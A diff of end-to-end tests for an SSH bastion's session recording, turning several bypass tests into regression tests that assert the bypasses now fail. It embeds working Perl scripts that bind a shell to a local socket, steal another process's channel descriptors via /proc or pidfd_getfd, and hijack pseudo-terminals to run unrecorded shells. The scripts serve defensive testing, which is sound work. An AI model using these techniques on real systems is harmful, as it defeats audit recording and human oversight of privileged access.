@@ -1,13 +1,13 @@
-// End to end: ways past session recording that still work on this branch's base. Each test shows
-// the client receiving a marker that the session's recording in S3 does not contain (or the
-// recording losing what it had), with the session ending as normal (status 0): nothing on the host
-// notices. Each asserts that the attack works: a fix turns its test red, and the test is then
-// inverted into the fix's regression test.
+// End to end: ways past session recording. The tests that assert an attack works show the client
+// receiving a marker that the session's recording in S3 does not contain (or the recording losing
+// what it had), with the session ending as normal (status 0): a fix turns such a test red, and it
+// is then inverted into the fix's regression test. The inverted ones (a second session channel on
+// one connection; TCP from the user to the container's own addresses) assert that the attack fails.
 import { execFile, execFileSync } from 'child_process';
 import * as fs from 'fs';
 import * as path from 'path';
 import { promisify } from 'util';
-import { BastionTestHost, Settings, testSettings, waitFor } from '../helpers/harness';
+import { BastionTestHost, Settings, testSettings, VPC_ADDRESS, VPC_SERVICE_PORT, VPC_SERVICE_TEXT, waitFor } from '../helpers/harness';
 import { log, logEachTest } from './log';
 
 const execFileAsync = promisify(execFile);
@@ -81,6 +81,13 @@ async function newRecording(before: string[]): Promise<{ session: string; status
     'a new recording in S3',
   );
   return found!;
+}
+
+/** Whether the session's end line says it was ended at its second session channel. */
+function endedAtSecondChannel(session: string): boolean {
+  return new RegExp(`container=ssh-bastion-${session} duration=\\d+s status=6 \\(recording: one session channel per connection\\)`).test(
+    host.journal(),
+  );
 }
 
 /** A ControlMaster connection (no channel of its own); `body` runs with its control path. */
@@ -223,19 +230,27 @@ describe('session recording bypasses', () => {
     expect(client.stdout).toContain('audit-record-accepted');
   });
 
-  test('ssh -L to a listener in the container: an interactive shell whose bytes are in no recording', async () => {
+  test('ssh -L to a listener in the container is refused (and ssh -R too); forwarding to the VPC and ssh -W still work', async () => {
     const listener =
       'use IO::Socket::INET; my $l = IO::Socket::INET->new(LocalAddr => "127.0.0.1:7777", Listen => 1, ReuseAddr => 1) or die; ' +
       'my $c = $l->accept; open STDIN, "<&", $c; open STDOUT, ">&", $c; open STDERR, ">&", $c; exec "/bin/bash", "-i";';
     const before = (await recordings()).map((o) => o.key);
     let forwarded = { stdout: '', stderr: '', status: 0 };
+    let remote = { stdout: '', stderr: '', status: 0 };
+    let vpc = { stdout: '', stderr: '', status: 0 };
+    let first = { stdout: '', stderr: '', status: 0 };
     await withMaster(async (control) => {
-      const first = await host.run([
+      // The listener, and root's capabilities in the container: without CAP_NET_ADMIN (12) root
+      // cannot remove the host's rule.
+      first = await host.run([
         'bash',
         '-c',
-        sshCommand(['-S', control], `setsid perl -e ${shellQuote(listener)} </dev/null >/dev/null 2>&1 & sleep 1; echo listening`),
+        sshCommand(
+          ['-S', control],
+          `setsid perl -e ${shellQuote(listener)} </dev/null >/dev/null 2>&1 & sleep 1; echo listening; ` +
+            `sudo -n bash -c 'echo net_admin=$(( (16#$(grep CapBnd /proc/self/status | cut -f2) >> 12) & 1 ))'`,
+        ),
       ]);
-      expect(first.stdout).toContain('listening');
       expect(
         (await host.run(['bash', '-c', sshCommand(['-S', control, '-O', 'forward', '-L', '127.0.0.1:17777:127.0.0.1:7777'])])).status,
       ).toBe(0);
@@ -243,13 +258,37 @@ describe('session recording bypasses', () => {
         ['bash', '-c', `{ echo 'echo FORWARDED-$((5*5)); sudo id -u; exit'; sleep 3; } | socat - TCP:127.0.0.1:17777`],
         { timeoutMs: 30_000 },
       );
+      remote = await host.run(['bash', '-c', sshCommand(['-S', control, '-O', 'forward', '-R', '127.0.0.1:7778:127.0.0.1:9'])]);
+      expect(
+        (
+          await host.run([
+            'bash',
+            '-c',
+            sshCommand(['-S', control, '-O', 'forward', '-L', `127.0.0.1:17778:${VPC_ADDRESS}:${VPC_SERVICE_PORT}`]),
+          ])
+        ).status,
+      ).toBe(0);
+      vpc = await host.run(['bash', '-c', `printf 'GET / HTTP/1.0\\r\\n\\r\\n' | socat - TCP:127.0.0.1:17778`], { timeoutMs: 30_000 });
     });
-    log(`forwarded: ${JSON.stringify(forwarded)}`);
+    // ssh -W (what ssh -J runs): a forwarding channel on a connection of its own
+    const jump = await host.run(
+      ['bash', '-c', `printf 'GET / HTTP/1.0\\r\\n\\r\\n' | ${sshCommand(['-W', `${VPC_ADDRESS}:${VPC_SERVICE_PORT}`])}`],
+      { timeoutMs: 30_000 },
+    );
+    log(
+      `first: ${JSON.stringify(first)}; forwarded: ${JSON.stringify(forwarded)}; remote: ${JSON.stringify(remote)}; vpc: ${JSON.stringify(vpc)}; jump: ${JSON.stringify(jump)}`,
+    );
     const { status, body } = await newRecording(before);
     log(`recording:\n${body}`);
-    expect(forwarded.stdout).toContain('FORWARDED-25');
+    expect(first.stdout).toContain('listening');
+    expect(first.stdout).toContain('net_admin=0');
+    expect(forwarded.stdout).not.toContain('FORWARDED-25');
+    expect(remote.status).not.toBe(0);
+    expect(vpc.stdout).toContain(VPC_SERVICE_TEXT);
+    expect(jump.stdout).toContain(VPC_SERVICE_TEXT);
     expect(status).toBe('0');
-    expect(body).not.toContain('FORWARDED-25');
+    // and the ssh -W connection's own (no channel: nothing in it)
+    await waitFor(async () => (await recordings()).filter((o) => !before.includes(o.key)).length >= 2, 90_000, 'both recordings');
   });
   test("a 100 KB TERM (sent by the client, sanitised but not bounded): the header rewritten at the end overwrites the recording's events (here all of them)", async () => {
     const before = (await recordings()).map((o) => o.key);
@@ -277,11 +316,11 @@ describe('session recording bypasses', () => {
     expect(lines.filter((l) => l.trim() !== '')).toHaveLength(1);
     expect(JSON.parse(lines[0]).env.TERM).toHaveLength(100000);
   });
-  test("a file transfer's channel taken by an earlier channel's process: scp -t runs on the channel itself, dumpable", async () => {
+  test("a file transfer's channel cannot be taken by an earlier channel's process: the second session channel ends the session", async () => {
     // scp's server is exec'd by the recorder onto the channel's own descriptors, and exec makes it
     // dumpable again (sftp-server makes itself non-dumpable; scp does not): a process of the same
-    // user takes them (/proc/<pid>/fd, or pidfd_getfd), stops it and runs a shell there. The
-    // recording has a command line and a file transfer.
+    // user could take them (/proc/<pid>/fd, or pidfd_getfd), stop it and run a shell there. Such a
+    // process needs an earlier channel of the same connection (the container is the connection's).
     const thief =
       "# Waits for the user's sftp-server, takes its channel descriptors, stops it, and runs a shell on them.\nuse strict;\nuse warnings;\nopen(my $log, '>>', '/tmp/thief.log') or die;\nselect((select($log), $| = 1)[0]);\nmy $deadline = time + 60;\nwhile (time < $deadline) {\n  opendir(my $proc, '/proc') or die;\n  for my $pid (grep { /^\\d+$/ && $_ != $$ } readdir $proc) {\n    open(my $c, '<', \"/proc/$pid/cmdline\") or next;\n    my $cmd = do { local $/; <$c> } // '';\n    next unless $cmd =~ m{^/usr/bin/scp\\0-t\\0};\n    print $log \"sftp-server $pid: fd0 \", readlink(\"/proc/$pid/fd/0\") // \"?$!\", \" fd1 \", readlink(\"/proc/$pid/fd/1\") // \"?$!\", \"\\n\";\n    my ($in, $out);\n    if (open($in, '<&=', 0) && 0) { }\n    unless (open($in, '<', \"/proc/$pid/fd/0\") && open($out, '>', \"/proc/$pid/fd/1\")) {\n      print $log \"open via /proc: $!; trying pidfd_getfd\\n\";\n      my $pidfd = syscall(434, $pid, 0);\n      print $log \"pidfd_open: $pidfd $!\\n\";\n      my $fd0 = syscall(438, $pidfd, 0, 0);\n      my $fd1 = syscall(438, $pidfd, 1, 0);\n      print $log \"pidfd_getfd: $fd0 $fd1 $!\\n\";\n      exit 1 if $fd0 < 0 || $fd1 < 0;\n      open($in, '<&=', $fd0) or die;\n      open($out, '>&=', $fd1) or die;\n    }\n    kill 'STOP', $pid;\n    print $log \"stolen, sftp-server stopped\\n\";\n    my $child = fork;\n    if (!$child) {\n      open(STDIN, '<&', $in) or die;\n      open(STDOUT, '>&', $out) or die;\n      open(STDERR, '>&', $out) or die;\n      exec '/bin/bash';\n    }\n    waitpid($child, 0);\n    print $log \"shell ended\\n\";\n    kill 'CONT', $pid;\n    kill 'TERM', $pid;\n    exit 0;\n  }\n  select(undef, undef, undef, 0.01);\n}\n";
     const before = (await recordings()).map((o) => o.key);
@@ -301,13 +340,14 @@ describe('session recording bypasses', () => {
       debug = await host.run(['bash', '-c', sshCommand(['-S', control], 'cat /tmp/thief.log')]);
     });
     log(`client: ${JSON.stringify(client)}; thief: ${JSON.stringify(debug.stdout)}`);
-    const { status, body } = await newRecording(before);
+    const { session, status, body } = await newRecording(before);
     log(`recording:\n${body}`);
-    expect(client.stdout).toContain('STOLEN-16');
-    expect(status).toBe('0');
+    expect(client.stdout).not.toContain('STOLEN-16');
     expect(body).not.toContain('STOLEN-16');
+    expect(status).toBe('6');
+    expect(endedAtSecondChannel(session)).toBe(true);
   });
-  test("a plain user's non-dumpable process opens the next channel's terminal before the recorder makes it exclusive: the recorder's search cannot see it", async () => {
+  test("a plain user's non-dumpable process cannot use the next channel's terminal: the second session channel ends the session", async () => {
     const thief =
       '# Non-dumpable (the recorder, running as the same user, then cannot list its descriptors), it\n# opens every new terminal of the container as soon as it appears, before the recorder makes it\n# exclusive, and later writes a marker to each.\nuse strict;\nuse warnings;\nuse Fcntl qw(O_RDWR O_NOCTTY O_NONBLOCK);\nsyscall(157, 4, 0, 0, 0, 0) == 0 or die "prctl: $!";\nopen(my $log, \'>>\', \'/tmp/thief2.log\') or die;\nselect((select($log), $| = 1)[0]);\nmy %seen;\n{ opendir(my $d, \'/dev/pts\') or die; $seen{$_} = 1 for grep { /^\\d+$/ } readdir $d; }\nprint $log "ptys before: ", join(\' \', sort keys %seen), "\\n";\nmy @held;\nmy $deadline = time + 60;\nwhile (time < $deadline && @held < 2) {\n  opendir(my $d, \'/dev/pts\') or die;\n  for my $n (grep { /^\\d+$/ && !$seen{$_} } readdir $d) {\n    if (sysopen(my $fh, "/dev/pts/$n", O_RDWR | O_NOCTTY | O_NONBLOCK)) {\n      $seen{$n} = 1;\n      push @held, [$n, $fh];\n      print $log "opened /dev/pts/$n\\n";\n    } else {\n      print $log "open /dev/pts/$n: $!\\n";\n      $seen{$n} = 1 if $!{EBUSY};\n    }\n  }\n  select(undef, undef, undef, 0.001);\n}\nsleep 3;\nfor (@held) {\n  my ($n, $fh) = @$_;\n  my $w = syswrite($fh, "\\r\\nHELD-PTS-$n-" . (6 * 7) . "\\r\\n");\n  print $log "wrote to /dev/pts/$n: ", ($w // "error $!"), "\\n";\n}\n';
     const before = (await recordings()).map((o) => o.key);
@@ -326,15 +366,15 @@ describe('session recording bypasses', () => {
       debug = await host.run(['bash', '-c', sshCommand(['-S', control], 'cat /tmp/thief2.log')]);
     });
     log(`client: ${JSON.stringify(client)}; thief: ${JSON.stringify(debug.stdout)}`);
-    const { status, body } = await newRecording(before);
+    const { session, status, body } = await newRecording(before);
     log(`recording:\n${body}`);
-    const held = [...client.stdout.matchAll(/HELD-PTS-(\d+)-42/g)].map((m) => m[0]);
-    expect(held.length).toBeGreaterThan(0);
-    // at least one of the markers the client saw (the outer terminal's) is not in the recording
-    expect(held.some((marker) => !body.includes(marker))).toBe(true);
-    expect(status).toBe('0');
+    // it may open the terminal sshd allocated (before "Starting session"), but is killed with the
+    // whole container before it writes a thing
+    expect(client.stdout).not.toMatch(/HELD-PTS-(\d+)-42/);
+    expect(status).toBe('6');
+    expect(endedAtSecondChannel(session)).toBe(true);
   });
-  test('sftp asked with a terminal (ssh -t -s host sftp): the recorder leaves the outer terminal openable, and an earlier process runs a shell on it', async () => {
+  test('sftp asked with a terminal (ssh -t -s host sftp) after another channel: the session ends before an earlier process can run a shell on it', async () => {
     const thief =
       "# Waits for a terminal to appear (a file transfer asked with ssh -t: the recorder leaves it\n# as it is), opens it at leisure, stops the transfer server and runs a shell on the terminal.\nuse strict;\nuse warnings;\nuse Fcntl qw(O_RDWR O_NOCTTY);\nuse POSIX ();\nopen(my $log, '>>', '/tmp/thief3.log') or die;\nselect((select($log), $| = 1)[0]);\nmy $deadline = time + 60;\nwhile (time < $deadline) {\n  opendir(my $d, '/dev/pts') or die;\n  my ($n) = grep { /^\\d+$/ } readdir $d;\n  if (defined $n) {\n    sleep 1;\n    sysopen(my $tty, \"/dev/pts/$n\", O_RDWR | O_NOCTTY) or do { print $log \"open /dev/pts/$n: $!\\n\"; exit 1 };\n    print $log \"opened /dev/pts/$n\\n\";\n    my @stopped;\n    opendir(my $proc, '/proc') or die;\n    for my $pid (grep { /^\\d+$/ } readdir $proc) {\n      open(my $c, '<', \"/proc/$pid/cmdline\") or next;\n      my $cmd = do { local $/; <$c> } // '';\n      if ($cmd =~ m{^/usr/lib/openssh/sftp-server\\0?}) { kill 'STOP', $pid; push @stopped, $pid; print $log \"stopped $pid\\n\"; }\n    }\n    my $child = fork;\n    if (!$child) {\n      POSIX::setsid();\n      open(STDIN, '<&', $tty) or die;\n      open(STDOUT, '>&', $tty) or die;\n      open(STDERR, '>&', $tty) or die;\n      exec '/bin/bash', '-i';\n    }\n    waitpid($child, 0);\n    print $log \"shell ended\\n\";\n    kill 'CONT', @stopped;\n    kill 'TERM', @stopped;\n    exit 0;\n  }\n  select(undef, undef, undef, 0.05);\n}\n";
     const before = (await recordings()).map((o) => o.key);
@@ -358,10 +398,11 @@ describe('session recording bypasses', () => {
       debug = await host.run(['bash', '-c', sshCommand(['-S', control], 'cat /tmp/thief3.log')]);
     });
     log(`client: ${JSON.stringify(client)}; thief: ${JSON.stringify(debug.stdout)}`);
-    const { status, body } = await newRecording(before);
+    const { session, status, body } = await newRecording(before);
     log(`recording:\n${body}`);
-    expect(client.stdout).toContain('PTYSFTP-49');
+    expect(client.stdout).not.toContain('PTYSFTP-49');
     expect(body).not.toContain('PTYSFTP-49');
-    expect(status).toBe('0');
+    expect(status).toBe('6');
+    expect(endedAtSecondChannel(session)).toBe(true);
   });
 });
